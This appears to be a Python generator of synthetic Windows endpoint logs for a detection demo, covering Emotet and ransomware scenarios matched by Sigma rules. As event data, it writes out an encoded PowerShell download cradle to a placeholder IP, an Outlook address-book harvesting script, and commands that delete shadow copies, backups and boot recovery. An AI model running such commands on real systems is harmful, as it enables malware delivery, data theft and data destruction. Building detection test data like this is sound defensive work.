"""Demo scenarios 5 and 9 (MISSION.md): endpoint events, caught by Sigma rules.

Two more tenants, each with its own scenario, added to the demo's ``manifest.json`` after
the main generator wrote it (``extend_manifest``), like ``demo.internet``:

 5. Emotet: a sales rep's laptop, on hotel Wi-Fi, opens a spoofed invoice in Word; Word
    starts PowerShell with an encoded download cradle; a PowerShell script block walks the
    Outlook address book; the malware then sends mail to partners over SMTP submission ports.
 9. ransomware: on an accounting office's PC, shadow copies, the backup catalog and boot
    recovery are removed, then 60 documents are rewritten as ``*.locked`` within minutes and
    ransom notes appear.

Events are Sysmon (Microsoft-Windows-Sysmon/Operational: 1 process creation, 3 network
connection, 11 file created) and PowerShell script-block logging (4104), written as
``evtx_dump`` JSON lines — the ``{"Event": {"System": …, "EventData": …}}`` shape of the
``evtx`` reader — among ordinary office activity, and ingested with ``--source winlog_json``.
They are matched by mimamori's built-in Sigma rules (``mimamori/sigma/builtin``), so the demo
needs neither the network nor SigmaHQ's rule files.
"""

from __future__ import annotations

import base64
import json
import random
import uuid
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from mimamori.demo.generate import add_to_manifest

SCENARIO_KINDS = {5: "emotet", 9: "ransomware"}
SCENARIO_ALSO = {5: ["endpoint_threat"], 9: ["endpoint_threat"]}

SYSMON = (
    "Microsoft-Windows-Sysmon",
    "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
    "Microsoft-Windows-Sysmon/Operational",
)
POWERSHELL = (
    "Microsoft-Windows-PowerShell",
    "A0C1853B-5C40-4B15-8766-3CF1C58F985A",
    "Microsoft-Windows-PowerShell/Operational",
)

TENANTS: list[dict[str, Any]] = [
    {
        "id": "hokuriku-kogyo",
        "name": "北陸工業",
        "name_en": "Hokuriku Kogyo",
        "industry": "機械部品製造",
        "contact_name": "北川 誠",
        "contact_email": "makoto.kitagawa@hokuriku-kogyo.example",
        "contact_phone": "076-000-0505",
        "email_domain": "hokuriku-kogyo.example",
        "networks": ["192.168.55.0/24"],
        "sites": [
            {
                "name": "本社",
                "name_en": "Head office",
                "address": "石川県小松市",
                "network": "192.168.55.0/24",
            }
        ],
        "service_level": "standard",
        "sources": ["winlog_json"],
    },
    {
        "id": "uchinada-kaikei",
        "name": "内灘会計事務所",
        "name_en": "Uchinada Accounting Office",
        "industry": "会計事務所",
        "contact_name": "内田 由美",
        "contact_email": "yumi.uchida@uchinada-kaikei.example",
        "contact_phone": "076-000-0909",
        "email_domain": "uchinada-kaikei.example",
        "networks": ["192.168.59.0/24"],
        "sites": [
            {
                "name": "事務所",
                "name_en": "Office",
                "address": "石川県河北郡内灘町",
                "network": "192.168.59.0/24",
            }
        ],
        "service_level": "premium",
        "sources": ["winlog_json"],
    },
]

#: ordinary programs an office PC starts (image, command line, parent)
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_SYS = "C:\\Windows\\System32\\"
_EXPLORER = "C:\\Windows\\explorer.exe"
_NORMAL = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"{img}" --profile-directory=Default',
     _EXPLORER),
    (_OFFICE + "EXCEL.EXE", '"{img}" "C:\\Users\\{user}\\Documents\\見積書.xlsx"', _EXPLORER),
    (_OFFICE + "WINWORD.EXE", '"{img}" /n "C:\\Users\\{user}\\Documents\\議事録.docx"', _EXPLORER),
    (_OFFICE + "OUTLOOK.EXE", '"{img}"', _EXPLORER),
    (_SYS + "notepad.exe", '"{img}" C:\\Users\\{user}\\Desktop\\memo.txt', _EXPLORER),
    (_SYS + "svchost.exe", _SYS + "svchost.exe -k netsvcs -p -s Schedule", _SYS + "services.exe"),
    (_SYS + "taskhostw.exe", "taskhostw.exe", _SYS + "svchost.exe"),
    (_SYS + "cmd.exe", '"' + _SYS + 'cmd.exe" /c ipconfig /all', _EXPLORER),
    (_SYS + "WindowsPowerShell\\v1.0\\powershell.exe", '"{img}" -NoProfile Get-Printer', _EXPLORER),
]  # fmt: skip


class _Log:
    """One computer's event log: records numbered in order, written as evtx_dump JSON lines."""

    def __init__(self, computer: str, user: str, ip: str, rng: random.Random) -> None:
        self.computer, self.user, self.ip, self.rng = computer, user, ip, rng
        self.records: list[tuple[datetime, dict[str, Any]]] = []
        self.pids: dict[str, int] = {}

    def _guid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128))).upper()

    def _event(self, ts: datetime, source: tuple[str, str, str], eid: int, data: dict[str, Any]) -> None:
        provider, guid, channel = source
        system = {
            "Provider": {"#attributes": {"Name": provider, "Guid": guid}},
            "EventID": eid,
            "Version": 5 if source is SYSMON else 1,
            "Level": 4 if source is SYSMON else 5,
            "Task": eid if source is SYSMON else 2,
            "Opcode": 0 if source is SYSMON else 15,
            "Keywords": "0x8000000000000000" if source is SYSMON else "0x0",
            "TimeCreated": {"#attributes": {"SystemTime": ts.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": 0,  # numbered when written
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 2948, "ThreadID": self.rng.randint(1000, 9000)}},
            "Channel": channel,
            "Computer": self.computer,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}},
        }
        ev = {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                        "System": system, "EventData": data}}  # fmt: skip
        self.records.append((ts, ev))

    def _utc(self, ts: datetime) -> str:
        return ts.strftime("%Y-%m-%d %H:%M:%S.") + f"{ts.microsecond // 1000:03d}"

    def _subject(self, ts: datetime, pid: int, image: str) -> dict[str, Any]:
        """The fields every Sysmon event here opens with: rule, time and the acting process."""
        return {"RuleName": "-", "UtcTime": self._utc(ts), "ProcessGuid": self._guid(),
                "ProcessId": pid, "Image": image}  # fmt: skip

    def process(self, ts: datetime, image: str, cmd: str, parent: str, parent_cmd: str = "") -> None:
        pid = self.rng.randint(1000, 30000)
        self.pids[image] = pid
        self._event(
            ts,
            SYSMON,
            1,
            {
                **self._subject(ts, pid, image),
                "FileVersion": "10.0.19041.1",
                "Description": image.rsplit("\\", 1)[-1],
                "Product": "Microsoft® Windows® Operating System",
                "Company": "Microsoft Corporation",
                "OriginalFileName": image.rsplit("\\", 1)[-1],
                "CommandLine": cmd,
                "CurrentDirectory": f"C:\\Users\\{self.user}\\",
                "User": f"{self.computer}\\{self.user}",
                "LogonGuid": self._guid(),
                "LogonId": "0x4a3f2",
                "TerminalSessionId": 1,
                "IntegrityLevel": "Medium",
                "Hashes": f"SHA256={self.rng.getrandbits(256):064X}",
                "ParentProcessGuid": self._guid(),
                "ParentProcessId": self.pids.get(parent, 4711),
                "ParentImage": parent,
                "ParentCommandLine": parent_cmd or f'"{parent}"',
                "ParentUser": f"{self.computer}\\{self.user}",
            },
        )

    def connect(self, ts: datetime, image: str, dst: str, port: int, host: str = "") -> None:
        self._event(
            ts,
            SYSMON,
            3,
            {
                **self._subject(ts, self.pids.get(image, 5120), image),
                "User": f"{self.computer}\\{self.user}",
                "Protocol": "tcp",
                "Initiated": True,
                "SourceIsIpv6": False,
                "SourceIp": self.ip,
                "SourceHostname": self.computer,
                "SourcePort": self.rng.randint(49152, 65535),
                "SourcePortName": "-",
                "DestinationIsIpv6": False,
                "DestinationIp": dst,
                "DestinationHostname": host or "-",
                "DestinationPort": port,
                "DestinationPortName": {25: "smtp", 587: "submission", 443: "https", 80: "http"}.get(
                    port, "-"
                ),
            },
        )

    def file(self, ts: datetime, image: str, target: str) -> None:
        self._event(
            ts,
            SYSMON,
            11,
            {
                **self._subject(ts, self.pids.get(image, 6144), image),
                "TargetFilename": target,
                "CreationUtcTime": self._utc(ts),
                "User": f"{self.computer}\\{self.user}",
            },
        )

    def script_block(self, ts: datetime, text: str) -> None:
        self._event(
            ts,
            POWERSHELL,
            4104,
            {
                "MessageNumber": 1,
                "MessageTotal": 1,
                "ScriptBlockText": text,
                "ScriptBlockId": self._guid().lower(),
                "Path": "",
            },
        )

    def background(self, start: datetime, hours: int, n: int) -> None:
        for _ in range(n):
            ts = start + timedelta(seconds=self.rng.uniform(0, hours * 3600))
            img, cmd, parent = self.rng.choice(_NORMAL)
            self.process(ts, img, cmd.format(img=img, user=self.user), parent)
            if "chrome" in img or "OUTLOOK" in img:
                self.connect(ts + timedelta(seconds=2), img, f"203.0.113.{self.rng.randint(1, 254)}", 443)


def _write(root: Path, rel: str, logs: list[_Log]) -> int:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = []
    for log in logs:
        log.records.sort(key=lambda r: r[0])
        for i, (_ts, ev) in enumerate(log.records, 1):
            ev["Event"]["System"]["EventRecordID"] = 10_000 + i
            lines.append(json.dumps(ev, ensure_ascii=False))
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8", newline="\n")
    return len(lines)


def _truth(number: int, tenant: str, titles: tuple[str, str], hosts: list[str], stamps: list[datetime],
           by_file: dict[str, int], details: dict[str, Any]) -> dict[str, Any]:  # fmt: skip
    return {
        "scenario": number,
        "expected_kind": SCENARIO_KINDS[number],
        "tenant": tenant,
        "title": titles[0],
        "title_en": titles[1],
        "sources": ["winlog_json"],
        "hosts": hosts,
        "indicators": {"ips": [], "domains": [], "urls": [], "sha256": [], "emails": []},
        "details": details,
        "events": len(stamps),
        "events_by_file": by_file,
        "first_seen": min(stamps).isoformat(),
        "last_seen": max(stamps).isoformat(),
        "also_expected": SCENARIO_ALSO[number],
    }


def _scenario5(
    root: Path, rng: random.Random, start: datetime, hours: int
) -> tuple[list[Any], dict[str, Any]]:
    tid = "hokuriku-kogyo"
    laptop = _Log("EIGYO-NB03", "sato", "10.20.30.41", rng)  # the hotel's Wi-Fi address
    others = [
        _Log(f"HK-PC{i:02d}", u, f"192.168.55.{20 + i}", rng) for i, u in enumerate(["kitagawa", "mori"], 1)
    ]
    for log in [laptop, *others]:
        log.background(start, hours, 60)
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    t0 = start + timedelta(hours=max(1, hours // 3), minutes=17)
    stamps: list[datetime] = []
    doc = "C:\\Users\\sato\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7V2\\"
    doc += "請求書_1127.doc"
    laptop.process(t0, word, f'"{word}" /n "{doc}" /o ""', outlook)
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/wp-content/x/')"
    enc = base64.b64encode(cradle.encode("utf-16-le")).decode()
    t1 = t0 + timedelta(seconds=38)
    laptop.process(t1, ps, f"powershell -nop -w hidden -enc {enc}", word, f'"{word}" /n "{doc}"')
    laptop.connect(t1 + timedelta(seconds=3), ps, "198.51.100.77", 80)
    stamps += [t1]
    t2 = t1 + timedelta(minutes=4)
    laptop.script_block(
        t2,
        (
            "$o = New-Object -ComObject Outlook.Application\n$ns = $o.GetNamespace('MAPI')\n"
            "foreach ($e in $ns.AddressLists.Item(1).AddressEntries) "
            "{ $e.Address | Out-File -Append $env:TEMP\\c.txt }"
        ),
    )
    stamps.append(t2)
    rundll = "C:\\Windows\\System32\\rundll32.exe"
    t3 = t2 + timedelta(minutes=2)
    laptop.process(
        t3, rundll, f'"{rundll}" C:\\Users\\sato\\AppData\\Local\\Temp\\x21.dll,Control_RunDLL', ps
    )
    for i in range(40):  # mail in the company's name to partners' and others' servers
        ts = t3 + timedelta(minutes=20, seconds=i * 41)
        laptop.connect(
            ts, rundll, f"198.51.100.{100 + i % 30}", (587, 25, 465)[i % 3], f"mx{i % 7}.partner.example"
        )
        stamps.append(ts)
    rel = f"{tid}/endpoint/sysmon.json"
    n = _write(root, rel, [laptop, *others])
    files = [{"tenant": tid, "source": "winlog_json", "path": rel, "scenario": 5, "lines": n}]
    truth = _truth(
        5, tid,
        ("Emotet：ホテルのWi-Fiで開いた偽の請求書からPowerShellが実行され、アドレス帳が盗まれ取引先へメールが送られた",
         "Emotet: a spoofed invoice opened on hotel Wi-Fi ran PowerShell, stole the address book "
         "and mailed partners"),
        [laptop.computer], stamps, {rel: len(stamps)},
        {"computer": laptop.computer, "user": laptop.user, "document": doc, "smtp_connections": 40},
    )  # fmt: skip
    return files, truth


def _scenario9(
    root: Path, rng: random.Random, start: datetime, hours: int
) -> tuple[list[Any], dict[str, Any]]:
    tid = "uchinada-kaikei"
    pc = _Log("KAIKEI-PC01", "uchida", "192.168.59.21", rng)
    others = [
        _Log(f"KAIKEI-PC{i:02d}", u, f"192.168.59.{21 + i}", rng) for i, u in enumerate(["tanaka", "ono"], 2)
    ]
    for log in [pc, *others]:
        log.background(start, hours, 60)
    t0 = start + timedelta(hours=max(1, hours - 3), minutes=3)
    sys32 = "C:\\Windows\\System32\\"
    dropper = "C:\\Users\\uchida\\AppData\\Local\\Temp\\svc-upd.exe"
    cmd = sys32 + "cmd.exe"
    stamps: list[datetime] = []
    pc.process(t0, dropper, f'"{dropper}"', "C:\\Windows\\explorer.exe")
    steps = [
        (sys32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        (sys32 + "wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"),
        (sys32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
        (sys32 + "wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
    ]
    for i, (img, line) in enumerate(steps):
        ts = t0 + timedelta(seconds=20 + 7 * i)
        pc.process(ts, cmd, f'"{cmd}" /c {line}', dropper)
        pc.process(ts + timedelta(milliseconds=300), img, line, cmd, f'"{cmd}" /c {line}')
        stamps.append(ts)
    folders = ["Documents\\顧問先", "Documents\\決算", "Desktop", "Documents\\給与"]
    for i in range(60):
        ts = t0 + timedelta(minutes=2, seconds=i * 3)
        folder = folders[i % len(folders)]
        pc.file(ts, dropper, f"C:\\Users\\uchida\\{folder}\\file{i:03d}.xlsx.locked")
        stamps.append(ts)
    for folder in folders:
        ts = t0 + timedelta(minutes=6)
        pc.file(ts, dropper, f"C:\\Users\\uchida\\{folder}\\HOW_TO_DECRYPT.txt")
    rel = f"{tid}/endpoint/sysmon.json"
    n = _write(root, rel, [pc, *others])
    files = [{"tenant": tid, "source": "winlog_json", "path": rel, "scenario": 9, "lines": n}]
    truth = _truth(
        9, tid,
        ("ランサムウェア：シャドウコピーとバックアップの削除の後、ファイルが暗号化された",
         "Ransomware: shadow copies and backups deleted, then files encrypted"),
        [pc.computer], stamps, {rel: len(stamps)},
        {"computer": pc.computer, "encrypted_files": 60, "dropper": dropper},
    )  # fmt: skip
    return files, truth


def extend_manifest(out_dir: Path, *, seed: int, start: datetime, hours: int) -> None:
    """Add the two tenants, their files and scenarios to ``out_dir/manifest.json``."""
    rng = random.Random(f"endpoint-{seed}")
    add_to_manifest(out_dir, TENANTS, (_scenario5, _scenario9), rng=rng, start=start, hours=hours)
